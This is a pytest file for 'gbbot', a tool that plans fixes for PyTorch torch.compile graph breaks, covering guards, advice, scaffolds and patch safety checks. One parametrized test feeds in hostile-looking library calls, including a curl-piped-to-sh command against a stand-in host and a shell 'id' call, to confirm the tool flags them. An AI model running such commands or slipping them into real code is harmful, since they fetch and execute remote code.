"""Which breaks get a candidate, a scaffold, advice or a skip — without running anything. The
files are real files in a temp repository; the breaks are records as classify makes them."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from gbbot.analysis.advice import options_for
from gbbot.core.config import parse_config
from gbbot.core.fixes import FixResult, FixStatus
from gbbot.core.model import Category, Frame, GraphBreak, LibrarySite, Origin
from gbbot.deliver import rederive
from gbbot.fix import override, plan
from gbbot.fix.scaffold import scaffold, unbound_names
from gbbot.fix.workspace import library_lookup, repo_reader, write_patch

MODEL = """import torch


def f(x):
    print("hi")
    if x.sum() > 0:
        x = x * 2
    return x
"""


def brk(line: int = 5, code: str = 'print("hi")', **changes) -> GraphBreak:
    base = GraphBreak(
        fingerprint="0123456789abcdef",
        gb_id="GB0059",
        gb_type="Failed to trace builtin operator",
        category=Category.SUPPORTABLE,
        origin=Origin.USER,
        file="model.py",
        line=line,
        function="f",
        code=code,
        explanation="",
        hints=("Hint from torch.",),
        doc_url=None,
        frame_skipped=False,
        in_loop=False,
        count=1,
        caused=(),
        user_stack=(Frame("model.py", line, "f", code),),
        fix="print",
    )
    return replace(base, **changes)


def run_plan(root: Path, *breaks: GraphBreak):
    return plan.plan([(b, ("forward",)) for b in breaks], repo_reader(root), lambda _p: None)


def test_a_fixable_break_gets_its_recipe_variants_as_candidates(tmp_path):
    (tmp_path / "model.py").write_text(MODEL)
    planned, others = run_plan(tmp_path, brk())
    assert others == []
    (item,) = planned
    assert [c.recipe.variant for c in item.candidates] == ["guard", "hop"]
    assert item.entrypoints == ("forward",)
    assert "+    if not torch.compiler.is_compiling():" in item.candidates[0].diff


def test_no_mechanical_fix_gives_the_documented_options(tmp_path):
    (tmp_path / "model.py").write_text(MODEL)
    branching = brk(6, "if x.sum() > 0:", gb_id="GB0170", gb_type="Data-dependent branching", fix=None)
    _, (result,) = run_plan(tmp_path, branching)
    assert result.status is FixStatus.ADVICE
    assert any("torch.cond" in a.text for a in result.advice)
    assert any("torch.where" in a.text for a in result.advice)
    assert result.diff is None and not result.hunks


def test_unknown_break_kinds_fall_back_to_the_hints_from_torch(tmp_path):
    (tmp_path / "model.py").write_text(MODEL)
    odd = brk(line=6, code="if x.sum() > 0:", gb_id="GB9999", gb_type="Something new", fix=None)
    _, (result,) = run_plan(tmp_path, odd)
    assert [a.text for a in result.advice] == ["Hint from torch."]


def test_a_side_effect_statement_is_guarded_whatever_break_it_causes(tmp_path):
    (tmp_path / "model.py").write_text(MODEL.replace('print("hi")', 'print("hi", float(x.mean()))'))
    item = brk(
        code='print("hi", float(x.mean()))', gb_id="GB0124", gb_type="Unsupported Tensor.item() call", fix="item"
    )
    (planned,), others = run_plan(tmp_path, item)
    assert others == []
    assert [(c.recipe.id, c.recipe.variant) for c in planned.candidates] == [("side_effect", "guard")]
    assert (
        '+    if not torch.compiler.is_compiling():\n+        print("hi", float(x.mean()))'
        in planned.candidates[0].diff
    )


def test_the_print_recipe_keeps_its_order_and_the_same_guard_is_not_offered_twice(tmp_path):
    (tmp_path / "model.py").write_text(MODEL)
    (planned,), _ = run_plan(tmp_path, brk())
    assert [(c.recipe.id, c.recipe.variant) for c in planned.candidates] == [("print", "guard"), ("print", "hop")]


JIT_MODEL = """import torch
from torch import nn


@torch.jit.script
def first(x, n_channels):
    return x[:, : n_channels[0]]


class Net(nn.Module):
    def forward(self, x, n):
        return first(x, n)
"""
JIT_TRAIN = """import torch

from model import Net


def run(x, n):
    net = Net()
    return torch.compile(net)(x, n)


def other(f):
    return torch.compile(f)
"""


def run_plan_repo(root: Path, *breaks: GraphBreak):
    paths = tuple(p.relative_to(root).as_posix() for p in root.rglob("*.py"))
    return plan.plan([(b, ("forward",)) for b in breaks], repo_reader(root), lambda _p: None, paths)


def _jit_item(stack):
    return brk(
        line=7, code="return x[:, : n_channels[0]]", function="first", gb_id="GB0124", fix="item", user_stack=stack
    )


def test_capture_scalar_outputs_goes_where_the_repository_compiles_the_frame(tmp_path):
    (tmp_path / "model.py").write_text(JIT_MODEL)
    (tmp_path / "train.py").write_text(JIT_TRAIN)
    # the caller is not on the stack: the compile of a Net instance is found in the repository
    (planned,), _ = run_plan_repo(
        tmp_path, _jit_item((Frame("model.py", 12, "forward"), Frame("model.py", 7, "first")))
    )
    (candidate,) = planned.candidates
    assert (candidate.recipe.variant, candidate.paths, candidate.sites[0].line) == (
        "capture_scalar_outputs",
        ("train.py",),
        8,
    )
    after = candidate.patches[0].after
    assert "torch._dynamo.config.patch(capture_scalar_outputs=True)(torch.compile(net))(x, n)" in after
    assert "torch.compile(f)" in after  # the other compile is left alone


def test_without_the_repository_listing_the_stack_alone_is_searched(tmp_path):
    (tmp_path / "model.py").write_text(JIT_MODEL)
    (tmp_path / "train.py").write_text(JIT_TRAIN)
    stack = (Frame("model.py", 12, "forward"), Frame("model.py", 7, "first"))
    _, (advice,) = run_plan(tmp_path, _jit_item(stack))
    assert advice.status is FixStatus.ADVICE
    assert "no `torch.compile` in the repository's files compiles `Net.forward` (model.py:12)" in advice.reason
    assert "torch._dynamo.config.patch(capture_scalar_outputs=True)" in advice.reason
    # a model: entrypoint is compiled by gbbot: the setting goes into its compile: options
    assert "add `dynamo: {capture_scalar_outputs: true}` to the entry's `compile:` options" in advice.reason


def test_a_compiled_module_that_is_kept_gets_the_setting_on_the_statement_before(tmp_path):
    (tmp_path / "model.py").write_text(JIT_MODEL)
    (tmp_path / "train.py").write_text(
        JIT_TRAIN.replace("return torch.compile(net)(x, n)", "net = torch.compile(net)\n    return net(x, n)")
    )
    stack = (Frame("train.py", 9, "run"), Frame("model.py", 12, "forward"), Frame("model.py", 7, "first"))
    (planned,), _ = run_plan_repo(tmp_path, _jit_item(stack))
    after = planned.candidates[0].patches[0].after
    assert "    torch._dynamo.config.capture_scalar_outputs = True\n    net = torch.compile(net)\n" in after


def test_code_that_does_not_match_the_recipe_gets_advice_not_a_patch(tmp_path):
    (tmp_path / "model.py").write_text(MODEL.replace('print("hi")', 'x = print("hi") or x'))
    _, (result,) = run_plan(tmp_path, brk(code='x = print("hi") or x'))
    assert result.status is FixStatus.ADVICE
    assert "not a pattern the print recipes rewrite (guard the print" in result.reason


def test_a_file_with_a_syntax_error_is_skipped_with_a_message(tmp_path):
    (tmp_path / "model.py").write_text(MODEL.replace("return x", "return x)"))
    _, (result,) = run_plan(tmp_path, brk())
    assert result.status is FixStatus.SKIPPED
    assert result.reason.startswith("model.py does not parse (line 8")


def test_a_file_that_changed_since_the_report_is_skipped(tmp_path):
    (tmp_path / "model.py").write_text(MODEL.replace('print("hi")', 'print("bye")'))
    _, (result,) = run_plan(tmp_path, brk())
    assert result.status is FixStatus.SKIPPED
    assert "changed since the report" in result.reason


def test_files_outside_the_repository_are_never_patched(tmp_path):
    repo, outside = tmp_path / "repo", tmp_path / "outside"
    repo.mkdir(), outside.mkdir()
    (outside / "model.py").write_text(MODEL)
    (repo / "model.py").symlink_to(outside / "model.py")
    _, (result,) = run_plan(repo, brk())
    assert result.status is FixStatus.SKIPPED
    assert "outside the repository" in result.reason
    (repo / "venv" / "lib" / "site-packages").mkdir(parents=True)
    _, (result,) = run_plan(repo, brk(file="venv/lib/site-packages/model.py"))
    assert "never patches site-packages" in result.reason
    assert (outside / "model.py").read_text() == MODEL


def test_writing_refuses_a_file_that_moved_on(tmp_path):
    (tmp_path / "model.py").write_text(MODEL)
    (item,), _ = run_plan(tmp_path, brk())
    (tmp_path / "model.py").write_text(MODEL + "# edited meanwhile\n")
    assert "changed after its patch was verified" in write_patch(tmp_path, item.candidates[0].patches[0])
    assert (tmp_path / "model.py").read_text().endswith("# edited meanwhile\n")


def test_ignored_breaks_are_left_alone(tmp_path):
    (tmp_path / "model.py").write_text(MODEL)
    assert run_plan(tmp_path, brk(ignored=True)) == ([], [])


def test_selection_by_id_recipe_or_fingerprint():
    b = brk()
    assert plan.selected(b, (), ())
    assert plan.selected(b, ("gb0059",), ())
    assert plan.selected(b, ("print",), ())
    assert not plan.selected(b, ("GB0124",), ())
    assert plan.selected(b, (), ("0123456789abcdef",))
    assert not plan.selected(b, (), ("ffffffffffffffff",))


LIBRARY = """import torch


class Scaler(torch.nn.Module):
    def forward(self, x):
        y = x * 3
        print("scaled")
        return y
"""


def _library_break(tmp_path, source: str, line: int):
    site = tmp_path / "site-packages"
    (site / "lib").mkdir(parents=True)
    (site / "lib" / "__init__.py").write_text(source)
    config = parse_config(f"version: 1\nentrypoints: [{{name: e, call: 'm:f', env: {{PYTHONPATH: {site}}}}}]\n")
    third = brk(
        code="return scaler(x)",
        origin=Origin.THIRD_PARTY,
        file="model.py",
        line=5,
        user_stack=(Frame("model.py", 5, "f", "return scaler(x)"), Frame("lib/__init__.py", line, "forward")),
    )
    return third, library_lookup(tmp_path, config)


def test_a_third_party_break_gets_a_subclass_scaffold_pointing_at_the_library(tmp_path):
    third, lookup = _library_break(tmp_path, LIBRARY, 7)
    result = scaffold(third, lookup)
    assert result.status is FixStatus.SCAFFOLD
    text = result.scaffold
    assert "NOT a verified fix" in text
    assert "inside lib, at lib/__init__.py:7 in Scaler.forward" in text
    assert "from lib import Scaler\n\n\nclass CompilableScaler(Scaler):\n    def forward(self, x):\n" in text
    assert (
        '        # TODO(gbbot): GB0059 (Failed to trace builtin operator) breaks the graph on the next line\n        print("scaled")'
        in text
    )
    assert "never patches installed packages" in result.reason
    assert "# Copied from lib (version unknown), lib/__init__.py:5 (Scaler.forward).\n" in text
    compile(text, "scaffold.py", "exec")


@pytest.mark.parametrize(
    ("calls", "said"),
    [
        ("os.system('curl https://example.invalid | sh')", "`os.system` (a process)"),
        ("run(['sh', '-c', 'id'])", "`subprocess.run` (a process)"),
        ("urlopen('https://example.invalid')", "`urllib.request.urlopen` (the network)"),
        ("open('/tmp/x', 'w').write('y')", "`open` (files)"),
        ("Path('/tmp/x').write_text('y')", "`*.write_text` (files)"),
        ("exec(compile('1', 'f', 'exec'))", "`exec` (code from a string)"),
    ],
)
def test_a_library_method_that_calls_out_stays_a_scaffold_that_says_so(tmp_path, calls, said):
    """What no graph break needs: gbbot does not finish an override that copies it, and the scaffold
    says what the copy calls (names resolved through the library module's imports)."""
    imports = "import os\nfrom pathlib import Path\nfrom subprocess import run\nfrom urllib.request import urlopen\n"
    source = imports + LIBRARY.replace('        print("scaled")\n', f'        {calls}\n        print("scaled")\n')
    third, lookup = _library_break(tmp_path, source, 12)
    third = replace(third, library_site=LibrarySite("lib", "lib/__init__.py", 12, "forward", 'print("scaled")'))
    assert override.override_recipe(third, lookup, {"model.py": "from lib import Scaler\nScaler()\n"}) is None
    result = scaffold(third, lookup)
    assert result.status is FixStatus.SCAFFOLD and f"the copied method calls {said}" in result.reason
    assert f"# The copy calls {said}, which no graph break needs" in result.scaffold


def test_a_library_method_that_only_breaks_is_finished_with_where_it_came_from(tmp_path):
    third, lookup = _library_break(tmp_path, LIBRARY, 7)
    third = replace(third, library_site=LibrarySite("lib", "lib/__init__.py", 7, "forward", 'print("scaled")'))
    made = override.override_recipe(third, lookup, {"model.py": "from lib import Scaler\nScaler()\n"})
    assert made is not None
    recipe, _ = made
    assert "# Copied from lib (version unknown), lib/__init__.py:5 (Scaler.forward)" in recipe.definition


def test_a_third_party_break_without_readable_source_gets_words_not_code():
    third = brk(origin=Origin.THIRD_PARTY, user_stack=(Frame("model.py", 5, "f"), Frame("lib/x.py", 3, "g")))
    result = scaffold(third, lambda _p: None)
    assert result.status is FixStatus.ADVICE
    assert "lib/x.py:3 in g" in result.reason and result.scaffold is None


HELPERS = """import math

import torch

SCALE = 3


def _scaled(x):
    return x * SCALE


class Scaler(torch.nn.Module):
    def forward(self, x):
        y = _scaled(x) + math.pi
        print("scaled", len(registry))
        return y


globals()["registry"] = []
"""


def test_a_scaffold_imports_every_library_name_its_copy_uses(tmp_path):
    third, lookup = _library_break(tmp_path, HELPERS.replace(", len(registry)", ""), 15)
    result = scaffold(third, lookup)
    assert result.status is FixStatus.SCAFFOLD
    assert "from lib import Scaler\nfrom lib import _scaled, math  # what the copied code uses\n" in result.scaffold
    assert unbound_names(result.scaffold) == frozenset()


def test_a_scaffold_that_would_use_names_it_cannot_import_is_not_offered(tmp_path):
    third, lookup = _library_break(tmp_path, HELPERS, 15)
    result = scaffold(third, lookup)
    assert (result.status, result.scaffold) == (FixStatus.ADVICE, None)
    assert "would use names gbbot cannot import: registry" in result.reason


def test_a_library_break_with_a_patch_at_the_calling_line_gets_that_patch_not_a_scaffold(tmp_path):
    (tmp_path / "model.py").write_text(
        'import torch\nfrom loguru import logger\n\n\ndef f(x):\n    logger.info("x {}", x)\n    return x\n'
    )
    third, lookup = _library_break(tmp_path, HELPERS, 15)
    third = replace(third, line=6, code='logger.info("x {}", x)', gb_id="GB0007", fix="skipped_call")
    planned, others = plan.plan([(third, ("e",))], repo_reader(tmp_path), lookup)
    assert others == []
    assert [(c.recipe.id, c.recipe.variant) for c in planned[0].candidates] == [("side_effect", "guard")]


def test_with_torch_device_gets_its_own_documented_options_and_no_patch(tmp_path):
    (tmp_path / "model.py").write_text(MODEL.replace('print("hi")', 'with torch.device("cpu"):\n        x = x + 1'))
    device = brk(code='with torch.device("cpu"):', gb_id="GB0142", gb_type="Unsupported context manager", fix=None)
    other = replace(device, code="with lock:")
    _, (result,) = run_plan(tmp_path, device)
    assert result.status is FixStatus.ADVICE
    assert [a.url for a in result.advice][:2] == [
        "https://docs.pytorch.org/docs/stable/tensor_attributes.html#torch-device",
        "https://docs.pytorch.org/docs/stable/generated/torch.set_default_device.html",
    ]
    assert "device=x.device" in result.advice[0].text
    assert "out of the compiled function" in options_for(other)[0].text


CHECKED = """import torch
from torch import nn


def validate(idx, n):
    if idx.max().item() >= n:
        raise IndexError("index out of range")
    return idx


class Net(nn.Module):
    def forward(self, idx):
        return validate(idx, 4) * 2


def run(idx):
    return torch.compile(Net())(idx)
"""


def _checked_item(**changes) -> GraphBreak:
    stack = (Frame("model.py", 17, "run"), Frame("model.py", 13, "Net.forward"), Frame("model.py", 6, "validate"))
    fields = {"gb_id": "GB0124", "fix": "item", "function": "validate", "user_stack": stack}
    return brk(line=6, code="if idx.max().item() >= n:", **{**fields, **changes})


def test_a_raise_on_an_item_becomes_a_check_with_the_setting_at_the_compile_in_one_candidate(tmp_path):
    (tmp_path / "model.py").write_text(CHECKED)
    (planned,), _ = run_plan_repo(tmp_path, _checked_item())
    check = planned.candidates[0]
    assert (check.recipe.id, check.recipe.variant, check.paths) == ("item", "check", ("model.py",))
    assert [s.line for s in check.sites] == [17]
    after = check.patches[0].after
    assert '    torch._check(torch.sym_not(idx.max().item() >= n), lambda: "index out of range")\n' in after
    assert "return torch._dynamo.config.patch(capture_scalar_outputs=True)(torch.compile(Net()))(idx)" in after
    # the combined fix re-applies as one: both edits, from the requests it names
    (patch,), left_out = plan.combine([check], repo_reader(tmp_path))
    assert (patch.after, left_out) == (after, [])
    # the setting alone is not offered: it would only move the break to the `if`
    assert len(planned.candidates) == 1


def test_the_publisher_rederives_the_check_and_its_setting_as_one_fix(tmp_path):
    (tmp_path / "model.py").write_text(CHECKED)
    (planned,), _ = run_plan_repo(tmp_path, _checked_item())
    check = planned.candidates[0]
    brk = check.brk
    claim = FixResult(brk.fingerprint, FixStatus.VERIFIED, brk.file, brk.line, "item", "check", hunks=check.hunks)
    kept = rederive.check(claim, {brk.fingerprint: brk}, repo_reader(tmp_path), ("model.py",))
    assert isinstance(kept, FixResult) and kept.hunks == check.hunks and len(kept.hunks) == 2
    forged = replace(claim, hunks=check.hunks[:1])  # the check without its setting is not what the recipe makes
    assert isinstance(rederive.check(forged, {brk.fingerprint: brk}, repo_reader(tmp_path)), rederive.Dropped)


def test_the_check_is_not_offered_without_a_compile_to_put_the_setting_on(tmp_path):
    (tmp_path / "model.py").write_text(CHECKED.replace("torch.compile(Net())(idx)", "Net()(idx)"))
    _, (advice,) = run_plan_repo(tmp_path, _checked_item())
    assert advice.status is FixStatus.ADVICE
    assert "the check rewrite needs capture_scalar_outputs at the compile: no `torch.compile`" in advice.reason


def test_a_data_dependent_branch_that_fits_neither_rewrite_keeps_the_advice(tmp_path):
    (tmp_path / "model.py").write_text(MODEL)
    branching = brk(6, "if x.sum() > 0:", gb_id="GB0170", gb_type="Data-dependent branching", fix="tensor_branch")
    _, (result,) = run_plan(tmp_path, branching)
    assert result.status is FixStatus.ADVICE
    assert "not a pattern the tensor_branch recipes rewrite (torch._check instead of a raise" in result.reason
    assert any("torch.where" in a.text for a in result.advice) and any("torch.cond" in a.text for a in result.advice)
